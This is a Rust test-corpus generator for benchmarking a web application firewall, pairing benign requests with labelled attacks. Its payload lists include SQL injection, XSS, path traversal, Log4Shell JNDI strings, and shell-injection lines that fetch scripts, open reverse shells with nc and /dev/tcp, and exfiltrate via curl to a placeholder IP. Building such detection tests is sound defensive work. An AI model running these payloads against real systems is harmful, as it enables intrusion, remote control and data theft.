//! A deterministic request corpus for differential tests and benchmarks of the WAF: benign
//! traffic of many shapes (pages, assets, searches, cookies, forms, JSON APIs, multipart
//! uploads, real browser and tool User-Agents) and attacks (SQL injection, XSS, path traversal,
//! shell injection, PHP and Java injection, scanner signatures, protocol violations), each
//! placed in the query, the path, a cookie, a header or a body, raw or encoded.
//!
//! The same seed always gives the same requests (SplitMix64), so a difference found once can be
//! replayed; nothing is downloaded.

use crate::rng::SplitMix64;
use std::fmt::Write as _;

/// What a corpus request is meant to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Class {
    /// Ordinary traffic.
    Benign,
    /// An attack of the given family.
    Attack(Family),
}

/// Attack families.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Family {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Path traversal and local file inclusion.
    PathTraversal,
    /// Remote file inclusion.
    Rfi,
    /// Unix/Windows shell injection.
    Rce,
    /// PHP injection.
    Php,
    /// Java / Log4Shell / Spring injection.
    Java,
    /// Node.js injection.
    Node,
    /// Vulnerability scanners' signatures.
    Scanner,
    /// HTTP protocol violations and anomalies.
    Protocol,
}

/// One owned request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CorpusRequest {
    /// Method.
    pub method: String,
    /// Request target as sent (`/path?query`).
    pub uri: String,
    /// Headers in order.
    pub headers: Vec<(String, Vec<u8>)>,
    /// Body (empty for none).
    pub body: Vec<u8>,
    /// What it is.
    pub class: Class,
}

impl CorpusRequest {
    /// Headers as borrowed pairs, the shape `RequestView` takes.
    pub fn header_refs(&self) -> Vec<(&str, &[u8])> {
        self.headers
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_slice()))
            .collect()
    }

    fn header(&mut self, name: &str, value: impl Into<Vec<u8>>) {
        self.headers.push((name.to_string(), value.into()));
    }
}

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
];

const SCANNER_AGENTS: &[&str] = &[
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "gobuster/3.6",
    "Wfuzz/3.1.0",
    "nessus",
    "ZmEu",
    "arachni/v1.5.1",
];

const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/about",
    "/blog/2024/05/hello-world",
    "/products/shoes/running",
    "/static/app.3f9a1c.js",
    "/static/css/site.min.css",
    "/img/logo@2x.png",
    "/fonts/inter-var.woff2",
    "/favicon.ico",
    "/api/v1/users/1234",
    "/api/v2/orders",
    "/search",
    "/account/settings",
    "/docs/getting-started/install.html",
    "/cart",
    "/en-us/help/contact",
    "/wp-content/uploads/2023/11/photo.jpg",
    "/robots.txt",
    "/sitemap.xml",
];

const WORDS: &[&str] = &[
    "shoes",
    "red",
    "summer sale",
    "laptop 15 inch",
    "caf\u{e9}",
    "new york",
    "how to cook rice",
    "price",
    "asc",
    "desc",
    "2024-05-01",
    "john.doe@example.com",
    "O'Brien",
    "C++ tutorial",
    "50% off",
    "a & b",
    "rock-n-roll",
    "100",
    "en",
    "de-DE",
    "true",
    "false",
    "42",
    "id_7f3a",
    "hello world",
    "Stra\u{df}e",
    "\u{65e5}\u{672c}",
    "size=M",
    "first,last",
    "TODO: buy milk",
];

const PARAM_NAMES: &[&str] = &[
    "q",
    "page",
    "sort",
    "id",
    "lang",
    "ref",
    "utm_source",
    "utm_medium",
    "utm_campaign",
    "category",
    "color",
    "size",
    "limit",
    "offset",
    "filter",
    "session_state",
    "redirect",
    "name",
    "email",
    "comment",
    "search",
    "year",
    "view",
    "tab",
];

/// SQL injection payloads.
const SQLI: &[&str] = &[
    "' OR '1'='1",
    "1' OR 1=1-- -",
    "admin'--",
    "1 UNION SELECT username, password FROM users",
    "1) UNION ALL SELECT NULL,NULL,NULL--",
    "1; DROP TABLE users",
    "' AND SLEEP(5)--",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "' or 1=1#",
    "-1 OR 2>1",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "' UNION SELECT @@version--",
    "1 waitfor delay '0:0:5'--",
    "'; EXEC xp_cmdshell('dir')--",
    "1' ORDER BY 3--",
    "admin' /*",
    "' having 1=1--",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "') or ('a'='a",
    "1'||pg_sleep(5)--",
    "SELECT * FROM users WHERE id = 1",
    "0x53454c454354",
    "1 and updatexml(1,concat(0x3a,user()),1)",
    "'; select load_file('/etc/passwd')--",
];

/// Cross-site scripting payloads.
const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(document.domain)>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert('x')>",
    "<a href=\"javascript:void(0)\" onmouseover=alert(1)>x</a>",
    "'-alert(1)-'",
    "<ScRiPt>prompt(1)</ScRiPt>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<details open ontoggle=alert(1)>",
    "document.cookie",
];

/// Path traversal / LFI payloads.
const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "c:\\boot.ini",
    "..%252f..%252fetc%252fpasswd",
    "/proc/self/environ",
    "%2e%2e/%2e%2e/etc/hosts",
    "file:///etc/passwd",
    ".htaccess",
    "/var/log/apache2/access.log",
    "WEB-INF/web.xml",
];

/// Remote file inclusion payloads.
const RFI: &[&str] = &[
    "http://203.0.113.7/shell.txt?",
    "https://evil.example/x.php",
    "ftp://198.51.100.9/payload.txt",
    "http://203.0.113.7/inc.txt%00",
];

/// Shell injection payloads.
const RCE: &[&str] = &[
    ";cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(uname -a)",
    "; wget http://203.0.113.7/x.sh -O /tmp/x.sh",
    "& ping -c 10 127.0.0.1 &",
    "|| curl http://203.0.113.7/`hostname`",
    "; nc -e /bin/sh 203.0.113.7 4444",
    "powershell -enc SQBFAFgA",
    "cmd.exe /c dir",
    "; bash -i >& /dev/tcp/203.0.113.7/8080 0>&1",
    "() { :;}; /bin/bash -c \"id\"",
    "; ls -la /",
    "; python -c 'import os;os.system(\"id\")'",
];

/// PHP injection payloads.
const PHP: &[&str] = &[
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "phpinfo()",
    "eval(base64_decode('ZWNobyAxOw=='))",
    "<?= `id` ?>",
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    "assert($_POST[x])",
    "file_get_contents('/etc/passwd')",
    "$_SERVER['HTTP_USER_AGENT']",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
];

/// Java and expression-language injection payloads.
const JAVA: &[&str] = &[
    "${jndi:ldap://203.0.113.7:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://x/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "%{(#_='multipart/form-data').(#cmd='id')}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "java.io.ObjectInputStream",
];

/// Node.js injection payloads.
const NODE: &[&str] = &[
    "require('child_process').exec('id')",
    "process.mainModule.require('fs')",
    "{\"__proto__\":{\"admin\":true}}",
    "constructor.prototype.polluted=1",
];

/// Bytes kept as they are in a query value; everything else is `%XX`-encoded.
fn unreserved(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~')
}

/// `application/x-www-form-urlencoded` encoding (space as `+`).
fn form_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for &b in s.as_bytes() {
        if unreserved(b) {
            out.push(b as char);
        } else if b == b' ' {
            out.push('+');
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

/// Only what cannot appear in a request target encoded (as browsers send `'`, `<`, `(` raw).
fn light_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 2);
    for &b in s.as_bytes() {
        if b <= b' '
            || b >= 0x7f
            || matches!(
                b,
                b'#' | b'%' | b'&' | b'+' | b'"' | b'\\' | b'`' | b'{' | b'}' | b'|' | b'^'
            )
        {
            let _ = write!(out, "%{b:02X}");
        } else {
            out.push(b as char);
        }
    }
    out
}

/// Encodes twice (`%` becomes `%25`).
fn double_encode(s: &str) -> String {
    form_encode(&form_encode(s))
}

/// ASCII case flipped on every other letter (evasion of case-sensitive filters).
fn mixed_case(s: &str) -> String {
    s.chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

fn base_request(rng: &mut SplitMix64, method: &str, uri: String, class: Class) -> CorpusRequest {
    let mut r = CorpusRequest {
        method: method.to_string(),
        uri,
        headers: Vec::new(),
        body: Vec::new(),
        class,
    };
    r.header("Host", "www.example.com");
    let ua = rng.pick(USER_AGENTS);
    r.header("User-Agent", ua);
    if ua.starts_with("Mozilla") {
        r.header(
            "Accept",
            rng.pick(&[
                "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                "image/avif,image/webp,*/*",
                "*/*",
            ]),
        );
        r.header(
            "Accept-Language",
            rng.pick(&["en-US,en;q=0.5", "de-DE,de;q=0.9,en;q=0.8", "fr"]),
        );
        r.header("Accept-Encoding", "gzip, deflate, br");
    } else {
        r.header("Accept", "*/*");
    }
    r
}

fn query(rng: &mut SplitMix64, extra: Option<(String, String)>) -> String {
    let n = rng.below(4);
    let mut parts: Vec<String> = (0..n)
        .map(|_| format!("{}={}", rng.pick(PARAM_NAMES), form_encode(rng.pick(WORDS))))
        .collect();
    if let Some((k, v)) = extra {
        let at = rng.below(parts.len() + 1);
        parts.insert(at, format!("{k}={v}"));
    }
    parts.join("&")
}

fn with_body(r: &mut CorpusRequest, content_type: &str, body: Vec<u8>) {
    r.header("Content-Type", content_type);
    r.header("Content-Length", body.len().to_string());
    r.body = body;
}

fn json_body(rng: &mut SplitMix64, value: Option<&str>) -> Vec<u8> {
    let mut fields = vec![
        format!("\"name\":\"{}\"", json_escape(rng.pick(WORDS))),
        format!("\"qty\":{}", rng.below(20)),
        format!(
            "\"tags\":[\"{}\",\"{}\"]",
            json_escape(rng.pick(WORDS)),
            json_escape(rng.pick(WORDS))
        ),
        "\"active\":true".to_string(),
    ];
    if let Some(v) = value {
        fields.insert(
            rng.below(fields.len() + 1),
            format!("\"{}\":\"{}\"", rng.pick(PARAM_NAMES), json_escape(v)),
        );
    }
    format!("{{{}}}", fields.join(",")).into_bytes()
}

fn form_body(rng: &mut SplitMix64, value: Option<&str>) -> Vec<u8> {
    let mut parts = vec![
        format!(
            "username={}",
            form_encode(rng.pick(&["alice", "bob", "carol.smith", "d_evans"]))
        ),
        format!("remember={}", rng.pick(&["on", "1", "true"])),
    ];
    if rng.chance(50) {
        parts.push(format!("comment={}", form_encode(rng.pick(WORDS))));
    }
    if let Some(v) = value {
        parts.insert(
            rng.below(parts.len() + 1),
            format!("{}={}", rng.pick(PARAM_NAMES), form_encode(v)),
        );
    }
    parts.join("&").into_bytes()
}

const BOUNDARY: &str = "----conclaveFormBoundary7MA4YWxkTrZu0gW";

fn multipart_body(rng: &mut SplitMix64, value: Option<&str>) -> Vec<u8> {
    let mut b = String::new();
    let _ = write!(
        b,
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{}\r\n",
        rng.pick(WORDS)
    );
    if let Some(v) = value {
        let _ = write!(
            b,
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n{v}\r\n",
            rng.pick(PARAM_NAMES)
        );
    }
    let _ = write!(
        b,
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{}\"\r\nContent-Type: text/plain\r\n\r\nline one\nline two\r\n--{BOUNDARY}--\r\n",
        rng.pick(&["notes.txt", "report-2024.csv", "photo.txt"])
    );
    b.into_bytes()
}

fn benign(rng: &mut SplitMix64) -> CorpusRequest {
    let path = rng.pick(PATHS);
    match rng.below(10) {
        0..=2 => {
            let q = query(rng, None);
            let uri = if q.is_empty() {
                path.to_string()
            } else {
                format!("{path}?{q}")
            };
            let mut r = base_request(rng, "GET", uri, Class::Benign);
            if rng.chance(40) {
                r.header("Referer", format!("https://www.example.com{}", rng.pick(PATHS)));
            }
            r
        }
        3 => {
            let mut r = base_request(rng, "GET", path.to_string(), Class::Benign);
            let cookie = format!(
                "session={:016x}; theme={}; _ga=GA1.2.{}.{}",
                rng.next(),
                rng.pick(&["dark", "light"]),
                rng.below(1_000_000_000),
                1_700_000_000 + rng.below(100_000_000)
            );
            r.header("Cookie", cookie);
            r
        }
        4 => {
            let mut r = base_request(rng, "POST", "/login".into(), Class::Benign);
            let body = form_body(rng, None);
            with_body(&mut r, "application/x-www-form-urlencoded", body);
            r
        }
        5 | 6 => {
            let mut r = base_request(rng, "POST", "/api/v1/items".into(), Class::Benign);
            let body = json_body(rng, None);
            with_body(&mut r, "application/json", body);
            r
        }
        7 => {
            let mut r = base_request(rng, "POST", "/upload".into(), Class::Benign);
            let body = multipart_body(rng, None);
            with_body(&mut r, &format!("multipart/form-data; boundary={BOUNDARY}"), body);
            r
        }
        8 => {
            let method = rng.pick(&["HEAD", "OPTIONS", "GET"]);
            base_request(rng, method, path.to_string(), Class::Benign)
        }
        _ => {
            let uri = format!(
                "/api/v2/orders/{}?fields=id,total&expand=items",
                rng.below(100_000)
            );
            let mut r = base_request(rng, "GET", uri, Class::Benign);
            r.header(
                "Authorization",
                format!("Bearer eyJhbGciOiJIUzI1NiJ9.{:x}.sig", rng.next()),
            );
            r
        }
    }
}

/// The payload, encoded one of several ways for a query value.
fn encode_for_query(rng: &mut SplitMix64, payload: &str) -> String {
    match rng.below(6) {
        0 | 1 => form_encode(payload),
        2 => light_encode(payload),
        3 => double_encode(payload),
        4 => form_encode(&mixed_case(payload)),
        _ => light_encode(&payload.replace(' ', "/**/")),
    }
}

fn attack(rng: &mut SplitMix64) -> CorpusRequest {
    let family = rng.pick(&[
        Family::Sqli,
        Family::Sqli,
        Family::Xss,
        Family::Xss,
        Family::PathTraversal,
        Family::Rfi,
        Family::Rce,
        Family::Php,
        Family::Java,
        Family::Node,
        Family::Scanner,
        Family::Protocol,
    ]);
    let class = Class::Attack(family);
    let payload = match family {
        Family::Sqli => rng.pick(SQLI),
        Family::Xss => rng.pick(XSS),
        Family::PathTraversal => rng.pick(TRAVERSAL),
        Family::Rfi => rng.pick(RFI),
        Family::Rce => rng.pick(RCE),
        Family::Php => rng.pick(PHP),
        Family::Java => rng.pick(JAVA),
        Family::Node => rng.pick(NODE),
        Family::Scanner => return scanner(rng),
        Family::Protocol => return protocol(rng),
    };
    let name = rng.pick(PARAM_NAMES);
    let path = rng.pick(PATHS);
    match rng.below(10) {
        0..=3 => {
            let value = encode_for_query(rng, payload);
            let q = query(rng, Some((name.to_string(), value)));
            base_request(rng, "GET", format!("{path}?{q}"), class)
        }
        4 => {
            // In the path (traversal-style payloads mostly).
            let seg = light_encode(payload).replace("%2F", "/");
            base_request(rng, "GET", format!("/files/{seg}"), class)
        }
        5 => {
            let mut r = base_request(rng, "GET", path.to_string(), class);
            r.header(
                "Cookie",
                format!("session=abc123; {name}={}", form_encode(payload)),
            );
            r
        }
        6 => {
            let mut r = base_request(rng, "GET", path.to_string(), class);
            let header = rng.pick(&["Referer", "X-Forwarded-For", "User-Agent", "X-Api-Version"]);
            r.headers.retain(|(n, _)| n != header);
            r.header(header, payload.as_bytes().to_vec());
            r
        }
        7 => {
            let mut r = base_request(rng, "POST", "/api/v1/items".into(), class);
            let body = json_body(rng, Some(payload));
            with_body(&mut r, "application/json", body);
            r
        }
        8 => {
            let mut r = base_request(rng, "POST", "/login".into(), class);
            let body = form_body(rng, Some(payload));
            with_body(&mut r, "application/x-www-form-urlencoded", body);
            r
        }
        _ => {
            let mut r = base_request(rng, "POST", "/upload".into(), class);
            let body = multipart_body(rng, Some(payload));
            with_body(&mut r, &format!("multipart/form-data; boundary={BOUNDARY}"), body);
            r
        }
    }
}

fn scanner(rng: &mut SplitMix64) -> CorpusRequest {
    let paths = [
        "/",
        "/admin/",
        "/.git/config",
        "/.env",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/index.php.bak",
        "/backup.sql",
        "/server-status",
        "/cgi-bin/test.cgi",
    ];
    let uri = rng.pick(&paths).to_string();
    let mut r = base_request(rng, "GET", uri, Class::Attack(Family::Scanner));
    if rng.chance(80) {
        r.headers.retain(|(n, _)| n != "User-Agent");
        r.header("User-Agent", rng.pick(SCANNER_AGENTS));
    }
    r
}

fn protocol(rng: &mut SplitMix64) -> CorpusRequest {
    let class = Class::Attack(Family::Protocol);
    let path = rng.pick(PATHS);
    let mut r = base_request(rng, "GET", path.to_string(), class);
    match rng.below(14) {
        0 => {
            r.method = rng
                .pick(&["PROPFIND", "TRACE", "TRACK", "DEBUG", "CONNECT", "PUT", "DELETE"])
                .to_string()
        }
        1 => r.headers.retain(|(n, _)| n != "Host"),
        2 => r.headers.retain(|(n, _)| n != "User-Agent" && n != "Accept"),
        3 => {
            r.method = "POST".into();
            r.header("Content-Length", "abc");
        }
        4 => {
            r.header("Content-Type", "text/plain");
            r.header("Content-Length", "4");
            r.body = b"ping".to_vec();
        }
        5 => r.header(
            "Range",
            "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21",
        ),
        6 => r.uri = format!("{path}?q=%zz%1"),
        7 => r.uri = format!("{path}?file=report.pdf%00.txt"),
        8 => {
            r.headers.retain(|(n, _)| n != "Host");
            r.header("Host", "203.0.113.10");
        }
        9 => {
            r.method = "POST".into();
            let body = b"<x>1</x>".to_vec();
            with_body(&mut r, "application/x-evil", body);
        }
        10 => {
            r.uri = format!(
                "{path}?{}",
                (0..300).map(|i| format!("a{i}=1")).collect::<Vec<_>>().join("&")
            )
        }
        11 => r.header("Accept-Encoding", "gzip, ".repeat(10)),
        12 => r.header("Proxy", "http://203.0.113.7:8080"),
        _ => {
            r.method = "POST".into();
            r.header("Content-Length", "5");
            r.header("Transfer-Encoding", "chunked");
            r.body = b"hello".to_vec();
        }
    }
    r
}

/// `n` requests from `seed`: about 55% benign, 45% attacks.
pub fn generate(n: usize, seed: u64) -> Vec<CorpusRequest> {
    let mut rng = SplitMix64(seed);
    (0..n)
        .map(|_| {
            if rng.chance(55) {
                benign(&mut rng)
            } else {
                attack(&mut rng)
            }
        })
        .collect()
}

/// `n` benign requests with query strings and small JSON bodies (the WAF benchmark's load).
pub fn benign_bench(n: usize, seed: u64) -> Vec<CorpusRequest> {
    let mut rng = SplitMix64(seed);
    (0..n)
        .map(|i| {
            if i % 2 == 0 {
                let value = form_encode(rng.pick(WORDS));
                let q = query(&mut rng, Some(("q".into(), value)));
                let path = rng.pick(PATHS);
                base_request(&mut rng, "GET", format!("{path}?{q}"), Class::Benign)
            } else {
                let mut r = base_request(&mut rng, "POST", "/api/v1/items".into(), Class::Benign);
                let body = json_body(&mut rng, None);
                with_body(&mut r, "application/json", body);
                r
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_corpus() {
        assert_eq!(generate(200, 9), generate(200, 9));
        assert_ne!(generate(200, 9), generate(200, 10));
    }

    #[test]
    fn has_every_class_and_shape() {
        let c = generate(10_000, 1);
        let benign = c.iter().filter(|r| r.class == Class::Benign).count();
        assert!((4_500..6_500).contains(&benign), "{benign}");
        for f in [
            Family::Sqli,
            Family::Xss,
            Family::PathTraversal,
            Family::Rfi,
            Family::Rce,
            Family::Php,
            Family::Java,
            Family::Node,
            Family::Scanner,
            Family::Protocol,
        ] {
            assert!(
                c.iter().filter(|r| r.class == Class::Attack(f)).count() > 100,
                "{f:?}"
            );
        }
        let ct = |r: &CorpusRequest, want: &str| {
            r.headers
                .iter()
                .any(|(n, v)| n == "Content-Type" && v.starts_with(want.as_bytes()))
        };
        assert!(c.iter().filter(|r| ct(r, "application/json")).count() > 500);
        assert!(c.iter().filter(|r| ct(r, "multipart/form-data")).count() > 300);
        assert!(
            c.iter()
                .filter(|r| ct(r, "application/x-www-form-urlencoded"))
                .count()
                > 300
        );
        assert!(c.iter().all(|r| !r.uri.contains(' ') && !r.uri.contains('\0')));
    }

    #[test]
    fn bodies_carry_their_length() {
        for r in generate(2_000, 3)
            .iter()
            .filter(|r| !r.body.is_empty() && r.class == Class::Benign)
        {
            let len = r
                .headers
                .iter()
                .find(|(n, _)| n == "Content-Length")
                .map(|(_, v)| v.clone());
            assert_eq!(len, Some(r.body.len().to_string().into_bytes()));
        }
    }
}
